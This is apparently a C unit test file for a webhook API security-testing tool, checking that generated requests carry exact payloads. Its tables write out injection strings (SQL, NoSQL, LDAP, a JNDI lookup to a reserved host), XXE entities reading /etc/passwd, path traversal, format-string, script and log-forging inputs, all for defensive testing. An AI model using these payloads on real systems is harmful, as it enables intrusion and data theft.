/* The rows of security and of state: what single instances really send, written by hand. */
#include "tests/unit/cases_fixture.h"

static const struct promised bodies[] = {
    {"sec-injection-query", "header-value-or-true", HP_SLICE_INIT("' OR '1'='1")},
    {"sec-injection-query", "name-backslash-quote", HP_SLICE_INIT("\\\\' OR 1=1-- ")},
    {"sec-injection-query", "name-operator-as-text", HP_SLICE_INIT("{\\\"$ne\\\": null}")},
    {"sec-injection-query", "type-quote", HP_SLICE_INIT("\"type\":\"DATA_MODEL_CHANGES'\"")},
    {"sec-injection-query", "operation-or-true", HP_SLICE_INIT("[\"CREATE' OR '1'='1\"]")},
    {"sec-injection-query", "data_model-ldap-filter",
     HP_SLICE_INIT("[\"ACCOUNTS*)(objectClass=*\"]")},
    {"sec-injection-query", "operator-in-name-ne-null", HP_SLICE_INIT("\"name\":{\"$ne\":null},")},
    {"sec-injection-query", "operator-in-operations-exists",
     HP_SLICE_INIT("\"operations\":{\"$exists\":true},")},
    {"sec-injection-query", "operator-in-operation-gt-empty",
     HP_SLICE_INIT("\"operations\":[{\"$gt\":\"\"}],")},
    {"sec-injection-query", "operator-in-header-value-where-true",
     HP_SLICE_INIT("\"x-hookproof-case\":{\"$where\":\"return true\"}")},
    {"sec-injection-query", "operator-in-wrapper-or", HP_SLICE_INIT("{\"webhook\":{\"$or\":[{},")},
    {"sec-injection-template", "header-name-double-brace",
     HP_SLICE_INIT("\"X-Hook{{7*7}}proof\":")},
    {"sec-injection-template", "name-jndi-ldap",
     HP_SLICE_INIT("${jndi:ldap://hookproof.invalid/a}")},
    {"sec-injection-template", "url-dollar-brace", HP_SLICE_INIT("https://example.com/hooks/")},
    {"sec-injection-command-path", "name-newline", HP_SLICE_INIT("\\nid\\n")},
    {"sec-injection-command-path", "type-up-windows",
     HP_SLICE_INIT("\"DATA_MODEL_CHANGES..\\\\..\\\\..\\\\windows\\\\win.ini\"")},
    {"sec-format-string", "header-value-n", HP_SLICE_INIT("%n%n%n%n")},
    {"sec-markup", "name-script", HP_SLICE_INIT("<script>alert(1)</script>")},
    {"sec-log-forging", "name-ansi-colour", HP_SLICE_INIT("\\u001b[31mred\\u001b[0m")},
    {"sec-spreadsheet-formula", "name-start-equals", HP_SLICE_INIT("\"name\":\"=1+1hookproof ")},
    {"sec-xxe", "external-file-as-json",
     HP_SLICE_INIT("?><!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>")},
    {"sec-xxe", "external-file-as-json", HP_SLICE_INIT("<name>&e;</name>")},
    {"sec-xxe", "exponential-text-xml", HP_SLICE_INIT("<!ENTITY e6 \"&e5;&e5;&e5;")},
    {"sec-xxe", "exponential-text-xml", HP_SLICE_INIT("<name>&e6;</name>")},
    {"sec-xxe", "quadratic-application-xml", HP_SLICE_INIT("<name>&e;&e;&e;")},
    {"sec-secret-exposure", "authorization-bearer",
     HP_SLICE_INIT("\"headers\":{\"Authorization\":\"Bearer hookproof-secret-5f0d8c\"}")},
    {"sec-secret-exposure", "credential-field",
     HP_SLICE_INIT("\"headers\":{\"api_key\":\"hookproof-secret-5f0d8c\"}")},
    {"sec-parser-differential", "name-exact-escaped",
     HP_SLICE_INIT("-1\",\"\\u006eame\":\"hookproof ")},
    {"sec-parser-differential", "url-case-exact",
     HP_SLICE_INIT(",\"URL\":\"https://example.com/hooks/")},
    {"sec-parser-differential", "url-exact-case-escaped", HP_SLICE_INIT("-2\",\"\\u0075rl\":")},
    {"state-client-id-ignored", "root-number", HP_SLICE_INIT("}},\"id\":4711}")},
    {"state-client-id-ignored", "wrapper-text",
     HP_SLICE_INIT("},\"id\":\"hookproof-client-id\"}}")},
    {"state-client-created-at-ignored", "wrapper-past",
     HP_SLICE_INIT(",\"created_at\":\"2001-02-03T04:05:06.007Z\"}}")},
    {"state-client-internal-fields", "root-organisation_id",
     HP_SLICE_INIT("}},\"organisation_id\":\"hookproof-supplied\"}")},
    {"state-client-internal-fields", "wrapper-signing_key",
     HP_SLICE_INIT(",\"signing_key\":\"hookproof-supplied\"}}")},
    {"state-interleave", "02-invalid", HP_SLICE_INIT("\"type\":\"HOOKPROOF_NONE\"")},
};
enum { BODIES = sizeof bodies / sizeof bodies[0] };

START_TEST(body_holds_what_is_written_here)
{
    check_promise(&bodies[_i]);
}
END_TEST

/* ---- sweeps ---- */

START_TEST(text_in_a_free_place_is_taken_back_or_refused)
{
    static const struct {
        const char *id;
        const char *name;
        enum hp_expect expect;
        enum hp_body_truth truth;
        enum hp_echo echo;
    } cases[] = {
        {"sec-injection-query", "name-union", HP_EXPECT_ACCEPT_200_OR_4XX, HP_BODY_VALID,
         HP_ECHO_EXACT},
        {"sec-injection-query", "url-union", HP_EXPECT_ACCEPT_200_OR_4XX, HP_BODY_EITHER,
         HP_ECHO_EXACT},
        {"sec-injection-query", "type-union", HP_EXPECT_NO_5XX_ONLY, HP_BODY_BREAKS, HP_ECHO_EXACT},
        {"sec-injection-command-path", "header-value-newline", HP_EXPECT_ACCEPT_200_OR_4XX,
         HP_BODY_VALID, HP_ECHO_CLEAN},
        {"sec-injection-command-path", "name-newline", HP_EXPECT_ACCEPT_200_OR_4XX, HP_BODY_VALID,
         HP_ECHO_EXACT},
        {"sec-format-string", "credential-s", HP_EXPECT_NO_5XX_ONLY, HP_BODY_VALID, HP_ECHO_EXACT},
        {"sec-format-string", "user-agent-s", HP_EXPECT_ACCEPT_200_OR_4XX, HP_BODY_VALID,
         HP_ECHO_EXACT},
        {"sec-log-forging", "name-crlf", HP_EXPECT_NO_5XX_ONLY, HP_BODY_VALID, HP_ECHO_EXACT},
        {"sec-spreadsheet-formula", "name-start-tab", HP_EXPECT_ACCEPT_200_OR_4XX, HP_BODY_VALID,
         HP_ECHO_TRIMMED},
        {"sec-xxe", "xinclude-as-json", HP_EXPECT_REJECT_4XX, HP_BODY_NOT_JSON, HP_ECHO_EXACT},
        {"sec-xxe", "xinclude-text-xml", HP_EXPECT_REJECT_4XX, HP_BODY_NONE, HP_ECHO_EXACT},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        named(cases[i].id, cases[i].name);
        ck_assert_msg(build.expect == cases[i].expect, "%s %s", cases[i].id, cases[i].name);
        ck_assert_msg(build.body_truth == cases[i].truth, "%s %s", cases[i].id, cases[i].name);
        ck_assert_msg(build.echo == cases[i].echo, "%s %s", cases[i].id, cases[i].name);
    }
}
END_TEST

static const struct {
    const char *id;
    const char *name;
    const char *field;
    const char *value;
} fields[] = {
    {"sec-format-string", "credential-n", "api_key", "%n%n%n%n"},
    {"sec-format-string", "user-agent-n", "User-Agent", "hookproof %n%n%n%n"},
    {"sec-log-forging", "user-agent-percent-crlf", "User-Agent",
     "hookproof %0d%0aINFO forged by hookproof"},
    {"sec-log-forging", "user-agent-ansi-colour", "User-Agent", "hookproof \033[31mred\033[0m"},
    {"sec-xxe", "external-http-text-xml", "Content-Type", "text/xml"},
    {"sec-xxe", "external-http-as-json", "Content-Type", "application/json"},
    {"sec-host-poisoning", "host", "Host", "poisoned.example.net"},
    {"sec-host-poisoning", "forwarded", "Forwarded",
     "for=192.0.2.1;host=poisoned.example.net;proto=https"},
    {"sec-host-poisoning", "x-forwarded-host", "X-Forwarded-Host", "poisoned.example.net"},
    {"sec-cors", "request-foreign", "Origin", "https://pages.example.net"},
    {"sec-cors", "preflight-null", "Origin", "null"},
    {"sec-cors", "preflight-null", "Access-Control-Request-Method", "POST"},
    {"sec-cors", "preflight-null", "Access-Control-Request-Headers", "content-type,api_key"},
    {"state-idempotency-key", "first", "Idempotency-Key", "hookproof-0000000000000007"},
    {"state-idempotency-key", "other-body", "Idempotency-Key", "hookproof-0000000000000007"},
};
enum { FIELDS = sizeof fields / sizeof fields[0] };

START_TEST(field_is_what_is_written_here)
{
    struct hp_request request = named(fields[_i].id, fields[_i].name);
    struct hp_slice value = field_of(&request, fields[_i].field);
    ck_assert_msg(hp_slice_is(value, fields[_i].value), "%.*s", (int)value.len, value.at);
}
END_TEST

START_TEST(forged_lines_stand_in_path_and_query)
{
    struct hp_request request = named("sec-log-forging", "path-crlf");
    ck_assert(hp_slice_is(request.target, "/v3/core/webhooks%0D%0AINFO%20forged%20by%20hookproof"));
    request = named("sec-log-forging", "query-ansi-colour");
    ck_assert(hp_slice_is(request.target, "/v3/core/webhooks?x=%1B%5B31mred%1B%5B0m"));
}
END_TEST

START_TEST(preflight_carries_neither_credential_nor_body)
{
    struct hp_request request = named("sec-cors", "preflight-foreign");
    ck_assert(hp_slice_is(request.method, "OPTIONS"));
    ck_assert(!request.has_body);
    ck_assert_uint_eq(hp_field_count(request.fields, request.field_count, HP_SLICE("api_key")), 0);
    ck_assert_uint_eq(hp_field_count(request.fields, request.field_count, HP_SLICE("Content-Type")),
                      0);
}
END_TEST

/* No host of the lists belongs to anybody. */
START_TEST(hosts_of_the_texts_are_reserved)
{
    for (size_t r = 0; r < hp_table_security.count; r++) {
        const struct hp_row *row = &hp_table_security.rows[r];
        for (size_t i = 0; make(&build, row, 0, i); i++) {
            struct hp_slice body = hp_build_request(&build).body;
            for (size_t at = hp_slice_find(body, HP_SLICE("://")); at < body.len;) {
                struct hp_slice rest = {body.at + at + 3, body.len - at - 3};
                bool known = hp_slice_starts_with(rest, HP_SLICE("example.com/")) ||
                             hp_slice_starts_with(rest, HP_SLICE("hookproof.invalid/")) ||
                             hp_slice_starts_with(rest, HP_SLICE("/etc/passwd")) || /* file:/// */
                             hp_slice_starts_with(rest, HP_SLICE("www.w3.org/2001/XInclude"));
                ck_assert_msg(known, "%s: %.*s", hp_buf_cstr(&build.id),
                              (int)(rest.len < 40 ? rest.len : 40), rest.at);
                size_t next = hp_slice_find(rest, HP_SLICE("://"));
                at = next < rest.len ? at + 3 + next : body.len;
            }
        }
    }
}
END_TEST

/* ---- equal and different creates ---- */

static struct hp_slice body_at(const char *id, size_t index, struct hp_build *out)
{
    ck_assert(make(out, row_called(id), 0, index));
    return hp_build_request(out).body;
}

START_TEST(creates_at_once_are_equal_to_the_byte)
{
    struct hp_slice first = body_at("state-id-unique-concurrent", 0, &build);
    for (size_t i = 1; i < 32; i++) {
        ck_assert(hp_slice_equal(first, body_at("state-id-unique-concurrent", i, &again)));
    }
    ck_assert(holds(first, HP_SLICE("\"name\":\"hookproof at once 0000000000000007\"")));
}
END_TEST

START_TEST(repeated_creates_are_equal_where_their_names_say_so)
{
    struct hp_slice first = body_at("state-duplicate-create", 0, &build);
    ck_assert(hp_slice_equal(first, body_at("state-duplicate-create", 1, &again)));
    first = body_at("state-idempotency-key", 0, &build);
    ck_assert(hp_slice_equal(first, body_at("state-idempotency-key", 1, &again)));
    ck_assert(!hp_slice_equal(first, body_at("state-idempotency-key", 2, &again)));
    ck_assert_int_eq(again.echo, HP_ECHO_NONE);
    ck_assert_int_eq(build.echo, HP_ECHO_EXACT);
    base.seed = 8;
    ck_assert(!hp_slice_equal(first, body_at("state-idempotency-key", 0, &again)));
}
END_TEST

START_TEST(consecutive_creates_all_differ)
{
    struct hp_slice first = body_at("state-created-at-order", 0, &build);
    for (size_t i = 1; i < 12; i++) {
        ck_assert(!hp_slice_equal(first, body_at("state-created-at-order", i, &again)));
    }
}
END_TEST

START_TEST(every_second_request_of_a_mixture_is_wrong)
{
    const struct hp_row *row = row_called("state-interleave");
    size_t reused = 0;
    size_t fresh = 0;
    for (size_t i = 0; make(&build, row, 0, i); i++) {
        ck_assert((build.body_truth == HP_BODY_VALID) == (i % 2 == 0));
        reused += build.transfer.keep_alive_reuse;
        fresh += build.transfer.fresh_connection;
        ck_assert(!build.transfer.keep_alive_reuse || !build.transfer.fresh_connection);
    }
    ck_assert_uint_eq(reused, 24);
    ck_assert_uint_eq(fresh, 6);
}
END_TEST

START_TEST(row_that_cannot_be_given_what_it_needs_says_what_that_is)
{
    static const char *const ids[] = {"sec-plaintext-http", "state-reject-is-atomic",
                                      "state-rate-limit", "state-tenant-isolation"};
    for (size_t i = 0; i < sizeof ids / sizeof ids[0]; i++) {
        const struct hp_row *row = row_called(ids[i]);
        ck_assert_ptr_nonnull(row->needs);
        ck_assert_msg(strncmp(row->needs, "needs ", 6) == 0, "%s", row->needs);
    }
}
END_TEST

Suite *hp_suite(void)
{
    Suite *suite = suite_create("cases_security");
    TCase *tests = case_of(suite, "security and state");
    tcase_add_loop_test(tests, body_holds_what_is_written_here, 0, BODIES);
    tcase_add_test(tests, text_in_a_free_place_is_taken_back_or_refused);
    tcase_add_loop_test(tests, field_is_what_is_written_here, 0, FIELDS);
    tcase_add_test(tests, forged_lines_stand_in_path_and_query);
    tcase_add_test(tests, preflight_carries_neither_credential_nor_body);
    tcase_add_test(tests, hosts_of_the_texts_are_reserved);
    tcase_add_test(tests, creates_at_once_are_equal_to_the_byte);
    tcase_add_test(tests, repeated_creates_are_equal_where_their_names_say_so);
    tcase_add_test(tests, consecutive_creates_all_differ);
    tcase_add_test(tests, every_second_request_of_a_mixture_is_wrong);
    tcase_add_test(tests, row_that_cannot_be_given_what_it_needs_says_what_that_is);
    return suite;
}
